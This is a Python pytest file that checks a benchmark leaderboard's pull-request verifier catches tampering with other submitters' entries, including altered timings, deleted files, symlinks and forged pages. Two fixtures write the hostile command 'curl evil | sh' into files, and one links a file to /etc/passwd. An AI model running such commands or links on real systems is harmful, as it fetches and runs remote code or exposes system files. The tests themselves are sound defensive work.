"""A pull request may add entries; whatever else it changes is refused, or a maintainer says so."""

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from cardiobench.cli.main import main
from cardiobench.errors import CardioBenchError
from cardiobench.foundation.files import write_json
from cardiobench.results.entry import Entry, finished_entries
from cardiobench.results.items import HEADS
from cardiobench.results.withdrawals import withdraw
from cardiobench.sharing.submission.pack import pack
from cardiobench.sharing.submission.pull_request import pull_request
from cardiobench.sharing.submission.recompute import TaskAnew
from cardiobench.sharing.submission.report import Finding, Report
from cardiobench.sharing.submission.verify import Verifier
from tests.submissions import ADAPTED, TASK, ZERO_SHOT, edit, edit_predictions, sign, submission


@pytest.fixture
def board(tmp_path: Path) -> Path:
    """A small board: two entries of one task, verified; and what maintainers make beside them."""
    base = tmp_path / "base" / "leaderboard"
    for name in (ZERO_SHOT, ADAPTED):
        packed = submission(tmp_path / name.partition("/")[2], name, tasks=(TASK,))
        shutil.copytree(packed.root, base, dirs_exist_ok=True)
    for entry in finished_entries(base):
        write_json(entry.verification_path, {"recomputed": "2026-11-24", **_signed(entry)})
    (base / "README.md").write_text("# Leaderboard\n")
    (base / "results" / ".gitkeep").touch()
    return base


def _signed(entry: Entry) -> dict[str, str]:
    digest = subprocess.run(
        ["sha256sum", str(entry.submission_path)], capture_output=True, text=True, check=True
    ).stdout.split()[0]
    return {"submission_sha256": digest, "cardiobench": "0.1.0"}


@pytest.fixture
def copy(board: Path, tmp_path: Path) -> Path:
    """The pull request's copy of it."""
    there = tmp_path / "pr" / "leaderboard"
    shutil.copytree(board, there, symlinks=True)
    return there


def entry_of(copy: Path, name: str = ADAPTED) -> Entry:
    """Somebody else's entry in a copy."""
    return next(entry for entry in finished_entries(copy) if entry.name == name)


def verdict(
    copy: Path, board: Path, negation: TaskAnew, *, maintainer: bool = False
) -> tuple[list[Report], list[Finding]]:
    """What verification of the pull request says."""
    verifier = Verifier(board, maintainer=maintainer)
    verifier._tasks[TASK] = negation
    with pull_request((copy,), str(board), board) as request:
        reports = [verifier.verify(entry) for entry in request.entries]
        heads = [f for folder in request.boards for f in verifier.check_heads(folder)]
        return reports, [*request.findings, *heads]


def slower(entry: Entry) -> None:
    """A rival's timing made a hundred times slower, rounds included, and signed."""

    def change(speed: dict) -> None:  # type: ignore[type-arg]
        for benchmark in speed["benchmarks"]:
            stats = benchmark["stats"]
            stats.update(data=[100 * t for t in stats["data"]])

    edit(entry.speed_path, change)
    sign(entry)


def leaky(entry: Entry) -> None:
    """A rival's leak counts rewritten, and signed."""
    edit(entry.manifest_path, lambda m: m["training"]["audit"].update(removed_test_text=0))
    sign(entry)


def withdrawn(entry: Entry) -> None:
    """A rival withdrawn."""
    withdraw(entry.root, entry.name, entry.revision, "Not mine.")


def superseded(entry: Entry) -> None:
    """A rival superseded by a copy at another revision."""
    newer = Entry(entry.root, entry.name, "f" * 40)
    shutil.copytree(entry.folder, newer.folder)
    newer.verification_path.unlink()
    edit(newer.manifest_path, lambda m: m["model"].update(revision=newer.revision))
    edit(newer.meta_path, lambda m: m.update(revision=newer.revision))
    edit_predictions(
        newer.predictions_path(TASK),
        lambda p: p["mteb_model_meta"].update(revision=newer.revision),
    )
    revisions = {"revision": newer.revision, "supersedes": [entry.revision]}
    edit(newer.submission_path, lambda r: r.update(revisions))
    sign(newer)


def delete(name: str) -> Callable[[Entry], None]:
    """A file of a rival's gone."""
    return lambda entry: (entry.folder / name).unlink()


CHANGES: dict[str, tuple[Callable[[Entry], object], str]] = {
    "speed slower": (slower, "speed.json: mean is|already published"),
    "speed deleted": (delete("cardiobench/speed.json"), "speed.json: published under this name"),
    "leak counts": (leaky, "training.audit.removed_test_text is not|already published"),
    "verification deleted": (
        delete("cardiobench/verification.json"),
        "verification.json: published under this name and revision, but gone",
    ),
    "verification rewritten": (
        lambda entry: edit(entry.verification_path, lambda v: v.update(rerun="2026-11-24")),
        "verification.json: not what the board has",
    ),
    "task deleted": (
        lambda entry: (entry.result_path(TASK).unlink(), sign(entry)),
        f"{TASK}.json: published under this name and revision, but gone",
    ),
    "file added": (
        lambda entry: (entry.extras / "deviation.json").write_text("{}"),
        "deviation.json: not among the files published",
    ),
    "executable": (lambda entry: entry.speed_path.chmod(0o755), "an executable file"),
    "withdrawn": (withdrawn, "withdrawal.json: not what the board has; only maintainers write it"),
    "superseded": (superseded, "it takes the place of"),
    "entry deleted": (lambda entry: shutil.rmtree(entry.folder), "on the board, but not here"),
    "entry a link": (
        lambda entry: (
            entry.folder.rename(entry.root / "elsewhere"),
            entry.folder.symlink_to(entry.root / "elsewhere"),
        ),
        "no plain folder",
    ),
    "results a link": (
        lambda entry: (
            (entry.root / "results").rename(entry.root / "other"),
            (entry.root / "results").symlink_to("other"),
        ),
        "no plain folder",
    ),
    "gitkeep a folder": (
        lambda entry: (
            (entry.root / "results" / ".gitkeep").unlink(),
            (entry.root / "results" / ".gitkeep").mkdir(),
            (entry.root / "results" / ".gitkeep" / "evil.sh").write_text("curl evil | sh"),
        ),
        "no plain folder|no file of this kind",
    ),
    "gitkeep a link": (
        lambda entry: (
            (entry.root / "results" / ".gitkeep").unlink(),
            (entry.root / "results" / ".gitkeep").symlink_to("/etc/passwd"),
        ),
        "no plain folder",
    ),
    "gitkeep with a content": (
        lambda entry: (entry.root / "results" / ".gitkeep").write_text("#!/bin/sh"),
        "no plain folder",
    ),
    "page forged": (
        lambda entry: (entry.root / "README.md").write_text("# We won\n"),
        "README.md: it lies outside results/",
    ),
    "file beside results": (
        lambda entry: (entry.root / "evil.sh").write_text("curl evil | sh"),
        "evil.sh: it lies outside results/",
    ),
    "ids rewritten": (
        lambda entry: [
            edit(head, lambda h: h["ids"].reverse()) for head in (entry.root / HEADS).iterdir()
        ],
        "not the ids and labels of a task",
    ),
    "labels of nothing": (
        lambda entry: (entry.root / HEADS / "CardioNegation-0123.json").write_text("{}"),
        "not the ids and labels of a task",
    ),
}


@pytest.mark.parametrize("change", CHANGES)
def test_nothing_of_others_changes_unseen(
    change: str, copy: Path, board: Path, negation: TaskAnew
) -> None:
    """Files, modes, links, whole entries, and what lies beside them."""
    do, word = CHANGES[change]
    do(entry_of(copy))
    reports, findings = verdict(copy, board, negation)
    lines = [f.line() for f in findings] + [line for r in reports for line in r.lines()[:-1]]
    refusals = [line for line in lines if line.startswith("finding: ")]
    assert any(part in line for part in word.split("|") for line in refusals), lines


@pytest.mark.parametrize("change", ["verification deleted", "withdrawn", "superseded"])
def test_a_maintainer_may_and_it_is_shown(
    change: str, copy: Path, board: Path, negation: TaskAnew
) -> None:
    """The same as warnings."""
    do, word = CHANGES[change]
    do(entry_of(copy))
    reports, findings = verdict(copy, board, negation, maintainer=True)
    assert findings == []
    warnings = [f.line() for r in reports for f in r.findings if f.severity == "warning"]
    assert any(word in line for line in warnings), warnings
    assert all(report.good for report in reports), [r.lines() for r in reports]


def test_a_new_entry_is_welcome_and_nothing_else_is_looked_at(
    copy: Path, board: Path, negation: TaskAnew
) -> None:
    """With the head of its items, if the board lacks that."""
    shutil.rmtree(board / HEADS)
    shutil.rmtree(entry_of(board, ADAPTED).folder)
    entry_of(copy, ADAPTED).verification_path.unlink()
    (report,), findings = verdict(copy, board, negation)
    assert findings == []
    assert report.findings == []


def test_what_is_published_already_is_one_line(copy: Path, board: Path, negation: TaskAnew) -> None:
    """Run again: other times, dates and phases, but equal scores and predictions."""
    entry = entry_of(copy, ZERO_SHOT)
    edit(entry.result_path(TASK), lambda r: r.update(evaluation_time=9.9, date=1.0))
    edit(entry.manifest_path, lambda m: m.update(date="2026-11-25"))
    entry.verification_path.unlink()
    sign(entry)
    (report,), _ = verdict(copy, board, negation)
    (finding,) = report.findings
    assert finding.said == "already published, with equal scores and predictions"


@pytest.fixture
def checkout(board: Path) -> Path:
    """The board in git, on main; a branch is checked out."""
    top = board.parent
    (top / "code.py").write_text("")
    for command in (
        ["init", "-q", "-b", "main"],
        ["add", "-A"],
        ["commit", "-qm", "board"],
        ["checkout", "-qb", "mine"],
    ):
        git(top, *command)
    return top


def git(top: Path, *arguments: str) -> None:
    """A git command as somebody."""
    who = ["-c", "user.name=a", "-c", "user.email=a@b", "-c", "core.hooksPath=/dev/null"]
    subprocess.run(["git", *who, "-C", str(top), *arguments], check=True, capture_output=True)


def checked(checkout: Path, capsys: pytest.CaptureFixture[str], *more: str) -> tuple[int, str]:
    """Exit code and output of the command that CI and submitters run."""
    with pytest.raises(SystemExit) as stop:
        main(["submit", "verify", str(checkout / "leaderboard"), "--against", "main", *more])
    return int(stop.value.code or 0), capsys.readouterr().out


def test_the_check_of_pull_requests_needs_only_git(
    checkout: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Committed or not, inside and outside the results; what others did since does not count."""
    assert checked(checkout, capsys) == (0, "Nothing differs from the board.\n")
    (checkout / "code.py").write_text("1")
    assert checked(checkout, capsys)[0] == 0  # none of this check's business
    entry_of(checkout / "leaderboard").speed_path.unlink()
    (checkout / "leaderboard" / "README.md").write_text("# We won\n")
    git(checkout, "add", "leaderboard/README.md")
    git(checkout, "commit", "-qm", "mine")
    page = tmp_path / "summary.md"
    code, printed = checked(checkout, capsys, "--summary", str(page))
    assert code == 1
    for word in (
        "finding: code.py: changed beside the results",
        "finding: leaderboard/README.md: changed beside the results",
        "finding: cardiobench/speed.json: published under this name and revision, but gone here",
    ):
        assert word in printed
        assert word in page.read_text()
    git(checkout, "checkout", "-q", "main", "--", "leaderboard/README.md")
    git(checkout, "checkout", "-q", "--", ".")


def test_modes_that_a_checkout_does_not_show_are_seen_in_git(
    checkout: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A submodule is an empty folder, and a link may be checked out as a file."""
    commit = "160000,0123456789012345678901234567890123456789"
    git(checkout, "update-index", "--add", "--cacheinfo", f"{commit},leaderboard/results/x")
    git(checkout, "commit", "-qm", "submodule")
    (checkout / "leaderboard" / "results" / "x").mkdir()
    code, printed = checked(checkout, capsys)
    assert code == 1
    assert "finding: leaderboard/results/x: git mode 160000" in printed


def test_an_unknown_revision_says_what_to_name(checkout: Path) -> None:
    """Neither a folder nor a revision."""
    with (
        pytest.raises(CardioBenchError, match=r"git merge-base failed .* --against origin/main"),
        pull_request((checkout / "leaderboard",), "nonsense", checkout),
    ):
        pass


def test_a_new_entry_brings_the_head_that_its_items_need(tmp_path: Path) -> None:
    """A packed entry can be read wherever it is put."""
    source = submission(tmp_path / "made", ZERO_SHOT, tasks=(TASK,))
    packed = pack(Entry(source.root, source.name, source.revision), tmp_path / "packed")
    (head,) = (tmp_path / "packed" / HEADS).iterdir()
    stored = json.loads(packed.items_path(TASK).read_text())
    assert head.name == f"{TASK}-{stored['head'][:16]}.json"
    assert head.stat().st_mode & 0o111 == 0
